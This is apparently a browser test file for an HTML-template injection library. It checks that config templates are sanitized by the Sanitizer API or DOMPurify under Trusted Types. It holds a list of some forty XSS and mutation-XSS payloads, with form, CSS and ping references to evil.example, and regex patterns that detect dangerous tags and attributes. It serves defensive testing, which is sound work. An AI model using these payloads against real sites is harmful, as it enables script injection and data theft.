/**
 * Templates that come with the config: shown where the page has none of that name, and harmless whatever
 * stands in them, by the browser's own sanitizer and by DOMPurify, under Trusted Types.
 */
import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { launch } from "./support/browser.mjs";
import { startStage } from "./support/stage.mjs";

let browser;
let stage;

before(async () => {
  browser = await launch();
  stage = await startStage(browser);
});

after(async () => {
  await browser?.close();
  await stage?.close();
});

const PURIFY = "(html) => DOMPurify.sanitize(html, { RETURN_DOM_FRAGMENT: true })";
const POLICY =
  "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'; img-src 'self' data:; require-trusted-types-for 'script'; trusted-types";
const ways = {
  "the browser": { prepare: "", headers: { "Content-Security-Policy": `${POLICY} dompurify` } },
  DOMPurify: {
    prepare: `return { sanitize: ${PURIFY} };`,
    headers: { "Content-Security-Policy": `${POLICY} dompurify` },
  },
  "DOMPurify, TrustedHTML": {
    prepare: `return { sanitize: (html) => DOMPurify.sanitize(html, { RETURN_TRUSTED_TYPE: true }) };`,
    headers: { "Content-Security-Policy": `${POLICY} dompurify` },
  },
  "nothing but our own pass": {
    prepare: `const policy = trustedTypes.createPolicy("raw", { createHTML: (html) => html });
      return { sanitize: (html) => policy.createHTML(html) };`,
    headers: { "Content-Security-Policy": `${POLICY} dompurify raw` },
  },
};

/** After OWASP's XSS filter evasion cheat sheet, DOMPurify's list of mutation XSS, and our own ideas. */
const NASTY = [
  `<script>hit(1)</script>`,
  `<img src=x onerror=hit(2)>`,
  `<svg onload=hit(3)>`,
  `<a href="javascript:hit(4)">x</a>`,
  `<a href=" \t\njAvA\tscript:hit(5)">x</a>`,
  `<a href="&#1;javascript:hit(5)">x</a>`,
  `<a href="data:text/html,<script>hit(6)</script>">x</a>`,
  `<a href="vbscript:hit(7)">x</a>`,
  `<iframe srcdoc="<script>parent.hit(8)</script>"></iframe>`,
  `<iframe src="javascript:parent.hit(9)"></iframe>`,
  `<object data="javascript:hit(10)"></object><embed src="javascript:hit(11)">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:hit(12)">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>*{background:url(https://evil.example/)}</style>`,
  `<p style="background:url(https://evil.example/)">x</p>`,
  `<form action="https://evil.example/"><input name="card"><button formaction="https://evil.example/">go</button></form>`,
  `<form action="javascript:hit(13)"><button formaction="javascript:hit(14)">go</button></form>`,
  `<svg><a xlink:href="javascript:hit(15)"><text y=9>x</text></a></svg>`,
  `<svg><a><animate attributeName="href" values="javascript:hit(16)"/><text>x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="hit(17)"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=hit(18)></svg>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(19)&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit(20)>`,
  `<svg></p><style><a id="</style><img src=1 onerror=hit(21)>">`,
  `<noscript><p title="</noscript><img src=x onerror=hit(22)>"></noscript>`,
  `<xmp><img title="</xmp><img src=x onerror=hit(23)>"></xmp>`,
  `<template><script>hit(24)</script><img src=x onerror=hit(25)></template>`,
  `<div><template shadowrootmode="open" shadowrootclonable><img src=x onerror=hit(26)></template></div>`,
  `<form><input name=attributes><input name=attributes><img src=x onerror=hit(27)></form>`,
  `<form onsubmit=hit(28) id=f><input name=attributes></form>`,
  `<img name=currentScript><a id=cookie></a><form name=body></form>`,
  `<details open ontoggle=hit(29)><summary>x</summary></details>`,
  `<input autofocus onfocus=hit(30)>`,
  `<video><source onerror=hit(31)></video><audio src=x onerror=hit(32)></audio>`,
  `<body onload=hit(33)><p>x</p>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=hit(34)></annotation-xml></math>`,
  `<x-thing onclick=hit(35)></x-thing><button is="x-button">x</button>`,
  `<img src="data:text/html,x" srcset="javascript:hit(36) 1x"><video poster="javascript:hit(37)"></video>`,
  `<a ping="https://evil.example/" href="/ok">x</a>`,
  `<select><noembed></select><script x='a@b'a> y='a@b'//a@b%0a\\u0dhit(38)</script><noembed>`,
];

test("what can run, style, embed or lead elsewhere does not get in", async () => {
  for (const [way, given] of Object.entries(ways)) {
    const names = NASTY.map((_, at) => `n${at}`);
    const { page, show, faults, close, errors } = await stage.open({
      // Out of view nothing waits for room.
      html: `<canvas width="1" height="3000"></canvas>${names.map((name) => `<section data-unspoken="${name}">plain</section>`).join("")}`,
      slots: Object.fromEntries(
        names.map((name, at) => [
          name,
          { variants: ["bad"], templates: { bad: `<p class="ok">shown</p>${NASTY[at]}` }, swap: "now" },
        ]),
      ),
      ...given,
      prepare: `window.hits = []; window.hit = (at) => hits.push(at); customElements.define("x-thing", class extends HTMLElement { connectedCallback() { hit("element"); } });
        ${given.prepare}`,
    });
    const refused = [];
    for (const name of names) {
      await show(name, "bad").catch(() => refused.push(name));
    }
    assert.deepEqual(refused, [], `${way}: ${await faults()}`);
    await page.waitForTimeout(300);
    const found = await page.evaluate(() => {
      const found = [];
      const look = (root, name) => {
        for (const element of root.querySelectorAll("*")) {
          const tag = element.localName.toLowerCase();
          if (
            /^(script|style|link|meta|base|iframe|object|embed|use|set|animate|foreignobject|noscript|xmp|noembed)$|-/.test(
              tag,
            )
          )
            found.push(`${name}: <${tag}>`);
          for (const attribute of Array.from(Element.prototype.getAttributeNames.call(element))) {
            const value = Element.prototype.getAttribute.call(element, attribute).replace(/[\0-\x20]/g, "");
            if (/^on|^style$|^srcdoc$|^ping$|^is$/i.test(attribute)) found.push(`${name}: ${attribute}`);
            if (/^(javascript|vbscript|data:text)/i.test(value)) found.push(`${name}: ${attribute}=${value}`);
            if (/evil\.example/.test(value)) found.push(`${name}: ${attribute}=${value}`);
            if (/^(id|name)$/.test(attribute) && /^(attributes|cookie|body|currentScript)$/.test(value))
              found.push(`${name}: ${attribute}=${value}`);
          }
          if (element.content) look(element.content, name);
          if (element.shadowRoot) look(element.shadowRoot, name);
        }
      };
      for (const slot of document.querySelectorAll("[data-unspoken]")) {
        if (!slot.querySelector("p.ok")) found.push(`${slot.dataset.unspoken}: what is harmless is gone`);
        look(slot, slot.dataset.unspoken);
      }
      return [found, window.hits];
    });
    assert.deepEqual(found, [[], []], way);
    assert.deepEqual(errors, []);
    await close();
  }
});

test("what shows something stays", async () => {
  const fine = `<h2 id="title-2" class="a b" data-x="1" lang="de" dir="ltr">Hello <b>there</b></h2><p>a <a href="/b?c=d#e">link</a> <a href="mailto:a@b.c">mail</a></p><img src="data:image/png;base64,AAAA" alt="data: none" width="4" height="3"><ul><li>one</li></ul><form action="/search"><input name="q" aria-label="q"><button data-unspoken-dismiss="">no</button></form><svg viewBox="0 0 2 2"><path d="M0 0h2v2z" fill="red"></path></svg><table><tbody><tr><td colspan="2">x</td></tr></tbody></table>`;
  for (const way of ["the browser", "DOMPurify", "DOMPurify, TrustedHTML"]) {
    const { page, show, faults, close, errors } = await stage.open({
      html: `<canvas width="1" height="2000"></canvas><section data-unspoken="hero">plain</section>`,
      slots: { hero: { variants: ["help"], templates: { help: fine } } },
      ...ways[way],
    });
    await show("hero", "help");
    const stands = await page.evaluate(() => document.querySelector("[data-unspoken]").innerHTML);
    assert.equal(stands.replaceAll(' fetchpriority="high"', "").replaceAll(' loading="lazy"', ""), fine, way);
    await page.evaluate(() => unspoken.dispose());
    assert.equal(
      await page.evaluate(() => document.querySelector("[data-unspoken]").outerHTML),
      `<section data-unspoken="hero">plain</section>`,
    );
    assert.deepEqual([errors, await faults()], [[], []]);
    await close();
  }
});

test("the page's own template comes first, and several slots get copies of their own", async () => {
  const { page, show, close } = await stage.open({
    html: `<section data-unspoken="hero" style="height:50px">one<template data-variant="help">by the page</template></section><section data-unspoken="hero" style="height:50px">two</section><section data-unspoken="hero" style="height:50px">three</section>`,
    slots: { hero: { variants: ["help"], templates: { help: "<i>by the config</i>" } } },
  });
  await show("hero", "help");
  assert.deepEqual(
    await page.evaluate(() => [...document.querySelectorAll("[data-unspoken]")].map((slot) => slot.innerText)),
    ["by the page", "by the config", "by the config"],
  );
  await close();
});

test("without a sanitizer, or with one that is used wrong, the default stays and a fault names the mend", async () => {
  const wrong = {
    "no Sanitizer API": ["delete Element.prototype.setHTML;", /init\(\{ sanitize \}\)/],
    "a text": ["return { sanitize: (html) => html };", /RETURN_DOM_FRAGMENT/],
    nothing: ["return { sanitize: () => undefined };", /RETURN_DOM_FRAGMENT/],
    "it throws": ['return { sanitize: () => { throw new Error("no such thing"); } };', /no such thing/],
  };
  for (const [name, [prepare, mend]] of Object.entries(wrong)) {
    const { page, tell, waits, faults, close, errors } = await stage.open({
      html: `<section data-unspoken="hero" style="height:50px">plain</section>`,
      slots: { hero: { variants: ["help"], templates: { help: "<i>help</i>" } } },
      prepare,
    });
    await tell("hero", "help");
    await waits("hero", "a template");
    const told = await faults();
    assert.ok(
      told.some((fault) => fault.startsWith("slots.hero.templates.help: ") && mend.test(fault)),
      `${name}: ${told}`,
    );
    assert.equal(
      await page.evaluate(() => document.querySelector("[data-unspoken]").outerHTML),
      `<section data-unspoken="hero" style="height:50px">plain</section>`,
    );
    assert.deepEqual(errors, []);
    await close();
  }
});
